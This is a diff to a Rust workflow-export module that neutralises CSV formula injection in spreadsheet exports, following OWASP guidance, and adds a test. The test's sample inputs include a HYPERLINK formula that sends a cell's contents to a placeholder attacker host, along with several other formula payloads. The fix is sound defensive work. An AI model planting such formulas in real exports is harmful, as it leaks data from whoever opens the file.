@@ -13,6 +13,13 @@
 //! JSON array written one row per line as the rows come (`[`, rows separated by `,`, `]`):
 //! a single valid JSON document however many rows there are, still read in constant memory
 //! by a streaming reader, and greppable line by line.
+//!
+//! CSV is the spreadsheet's format, and a spreadsheet runs a cell that begins with `=`, `+`,
+//! `-` or `@` as a formula (`=HYPERLINK(...)` in a comment would be a live link in the
+//! auditor's Excel). So [`CsvRows`] neutralises such cells as OWASP's "CSV Injection" page
+//! recommends, with a leading single quote ([`for_spreadsheet`]), in every CSV it writes, with
+//! or without a byte-order mark: which program opens a file is not up to the file. JSON is for
+//! programs and stays exact.
 
 use super::chain::{self, ApprovalChain, Link, LinkKind, Walker};
 use crate::definition::Definition;
@@ -301,8 +308,9 @@ impl<W: Write> CsvRows<W> {
         Ok(CsvRows { writer })
     }
 
+    /// Writes one row, each text cell neutralised with [`for_spreadsheet`].
     pub fn write(&mut self, row: &ExportRow) -> std::io::Result<()> {
-        Ok(self.writer.serialize(row)?)
+        Ok(self.writer.serialize(row.for_spreadsheet())?)
     }
 
     /// Flushes, and gives the output back.
@@ -310,6 +318,52 @@ impl<W: Write> CsvRows<W> {
         self.writer
             .into_inner()
             .map_err(|e| std::io::Error::other(e.error().to_string()))
+    }
+}
+
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list: `=`,
+/// `+`, `-`, `@`, tab and carriage return; ASVS adds NUL), and their full-width forms, which
+/// spreadsheets with Chinese input methods may take the same way.
+const FORMULA_STARTS: [char; 11] = [
+    '=', '+', '-', '@', '\t', '\r', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+];
+
+/// A cell as a spreadsheet must receive it: one that begins like a formula gets a leading
+/// single quote, which spreadsheets read as "this is text" (OWASP, "CSV Injection"). Any
+/// other cell is unchanged.
+pub fn for_spreadsheet(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+impl ExportRow {
+    /// The row with every text cell neutralised for a spreadsheet ([`for_spreadsheet`]).
+    pub fn for_spreadsheet(&self) -> ExportRow {
+        let cell = |text: &str| for_spreadsheet(text).into_owned();
+        let optional = |text: &Option<String>| text.as_deref().map(cell);
+        ExportRow {
+            instance: cell(&self.instance),
+            workflow: cell(&self.workflow),
+            business_key: optional(&self.business_key),
+            seq: self.seq,
+            kind: self.kind,
+            event: cell(&self.event),
+            event_title: optional(&self.event_title),
+            from: optional(&self.from),
+            to: cell(&self.to),
+            actor: cell(&self.actor),
+            role: optional(&self.role),
+            role_title: optional(&self.role_title),
+            at_utc: cell(&self.at_utc),
+            at_local: cell(&self.at_local),
+            comment: optional(&self.comment),
+            guards: cell(&self.guards),
+            signature: optional(&self.signature),
+            version: cell(&self.version),
+        }
     }
 }
 
@@ -412,6 +466,42 @@ mod tests {
         let ours = String::from_utf8(ours.finish().expect("flushes")).expect("utf-8");
         assert_eq!(ours, text);
         assert!(ours.contains("\"同意, 请尽快\""), "{ours}");
+    }
+
+    #[test]
+    fn csv_cells_that_begin_like_a_formula_are_neutralised_and_json_stays_exact() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
+            "+1+2",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1",
+            "\r=1",
+            "＝1+1",
+        ];
+        for text in hostile {
+            let row = ExportRow {
+                comment: Some(text.into()),
+                business_key: Some(text.into()),
+                ..row(LinkKind::Approval, 1, "approve")
+            };
+            let mut csv = CsvRows::new(Vec::new()).expect("header");
+            csv.write(&row).expect("row");
+            let written = csv.finish().expect("flushes");
+            let mut reader = csv::Reader::from_reader(written.as_slice());
+            let record = reader.records().next().expect("a row").expect("parses");
+            let quoted = format!("'{text}");
+            assert_eq!(&record[2], quoted, "business_key of {text:?}");
+            assert_eq!(&record[14], quoted, "comment of {text:?}");
+            let mut json = JsonRows::new(Vec::new()).expect("opens");
+            json.write(&row).expect("row");
+            let value: serde_json::Value =
+                serde_json::from_slice(&json.finish().expect("closes")).expect("valid JSON");
+            assert_eq!(value[0]["comment"], text, "JSON keeps {text:?} exact");
+        }
+        for harmless in ["同意", "HW-2026-031", "a=b", "1-2", ""] {
+            assert_eq!(for_spreadsheet(harmless), harmless);
+        }
     }
 
     #[test]
